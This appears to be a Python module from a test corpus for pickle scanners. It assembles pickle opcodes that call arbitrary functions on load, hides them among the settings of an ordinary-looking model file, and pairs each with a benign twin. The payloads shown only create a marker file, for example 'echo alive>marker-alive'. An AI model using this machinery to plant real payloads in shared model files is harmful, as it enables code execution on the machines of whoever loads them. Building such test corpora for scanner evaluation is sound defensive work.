"""A small pickle assembler: expression trees in, opcodes out, hostile and benign."""

import pickle
import struct
from dataclasses import dataclass, field

MARKER = "marker-alive"
CODE = f"open('{MARKER}','w').close()"
SHELL = f"echo alive>{MARKER}"
PORT = 47811


@dataclass(frozen=True)
class Ref:
    """A global, written as STACK_GLOBAL from protocol 4 on and as GLOBAL before."""

    module: str
    name: str


@dataclass(frozen=True)
class Call:
    """`fn(*args)` by REDUCE, or `cls.__new__(cls, *args)` by NEWOBJ."""

    fn: object
    args: tuple = ()
    op: bytes = b"R"


@dataclass(frozen=True)
class Build:
    """BUILD: `__setstate__`, or the update of the object's `__dict__`."""

    target: object
    state: object


@dataclass(frozen=True)
class Do:
    """Evaluates each part and drops all but the last."""

    parts: tuple


@dataclass(frozen=True)
class Raw:
    """Opcodes as they are; `twin` stands in for them in the benign file."""

    code: bytes
    twin: bytes = b"N"


def ref(path: str) -> Ref:
    """`module:qualname`."""
    module, name = path.split(":")
    return Ref(module, name)


def call(fn, *args):
    """A REDUCE call; a string is read as `module:qualname`."""
    return Call(ref(fn) if isinstance(fn, str) else fn, args)


def new(fn, *args):
    """A NEWOBJ call."""
    return Call(ref(fn) if isinstance(fn, str) else fn, args, b"\x81")


def encode(node, proto=4) -> bytes:
    """The opcodes that leave `node` on the stack."""
    if isinstance(node, Ref):
        if proto < 4:
            return b"c" + node.module.encode() + b"\n" + node.name.encode() + b"\n"
        return encode(node.module) + encode(node.name) + b"\x93"
    if isinstance(node, Call):
        args = b"(" + b"".join(encode(a, proto) for a in node.args) + b"t"
        return encode(node.fn, proto) + args + node.op
    if isinstance(node, Build):
        return encode(node.target, proto) + encode(node.state, proto) + b"b"
    if isinstance(node, Do):
        *first, last = (encode(p, proto) for p in node.parts)
        return b"".join(p + b"0" for p in first) + last
    if isinstance(node, Raw):
        return node.code
    if node is None:
        return b"N"
    if isinstance(node, bool):
        return b"\x88" if node else b"\x89"
    if isinstance(node, int):
        return b"J" + struct.pack("<i", node) if -2**31 <= node < 2**31 else b"I%d\n" % node
    if isinstance(node, float):
        return b"G" + struct.pack(">d", node)
    if isinstance(node, str):
        raw = node.encode()
        return b"X" + struct.pack("<I", len(raw)) + raw
    if isinstance(node, bytes):
        return b"B" + struct.pack("<I", len(node)) + node
    if isinstance(node, tuple):
        return b"(" + b"".join(encode(a, proto) for a in node) + b"t"
    if isinstance(node, list):
        return b"](" + b"".join(encode(a, proto) for a in node) + b"e"
    if isinstance(node, dict):
        return b"}(" + b"".join(encode(x, proto) for kv in node.items() for x in kv) + b"u"
    raise TypeError(f"cannot encode {type(node)}")


def harmless(node):
    """The same shape with ordinary constructors; names and payloads stay as text."""
    if isinstance(node, Ref):
        return f"{node.module}.{node.name}"
    if isinstance(node, Call):
        kept = tuple(harmless(a) for a in node.args)
        return [call("datetime:timedelta", 1), harmless(node.fn), kept]
    if isinstance(node, Build):
        return Build(new("fractions:Fraction", 1), (None, {"_numerator": 3})), harmless(node.target), harmless(node.state)
    if isinstance(node, Do):
        return tuple(harmless(p) for p in node.parts)
    if isinstance(node, Raw):
        return Raw(node.twin)
    if isinstance(node, bytes):
        return pickle.dumps([1, 2, 3]) if node[:1] in (b"\x80", b"c", b"P", b"\x93") else node
    if isinstance(node, (tuple, list)):
        return type(node)(harmless(a) for a in node)
    if isinstance(node, dict):
        return {k if isinstance(k, (str, int)) else "key": harmless(v) for k, v in node.items()}
    return node


def program(node, proto=4) -> bytes:
    """A whole pickle."""
    head = b"\x80" + bytes([proto]) if proto >= 2 else b""
    return head + encode(node, proto) + b"."


def model(node, proto=4) -> bytes:
    """The payload among the settings of an ordinary-looking model."""
    settings = {"format": 3, "layers": ["dense", "dense"], "weights": [0.25, -1.5, 2.0], "callbacks": node}
    return program(settings, proto)


@dataclass
class Evasion:
    """One hostile file and its benign twin of the same shape."""

    name: str
    family: str
    hostile: bytes
    twin: bytes
    suffix: str = ".pkl"
    loader: str | None = "pickle"
    proof: str = "marker"
    beside: dict = field(default_factory=dict)


def gadget(name, family, node, **more):
    """An evasion out of an expression tree."""
    proto = more.pop("proto", 4)
    return Evasion(name, family, model(node, proto), model(harmless(node), proto), **more)
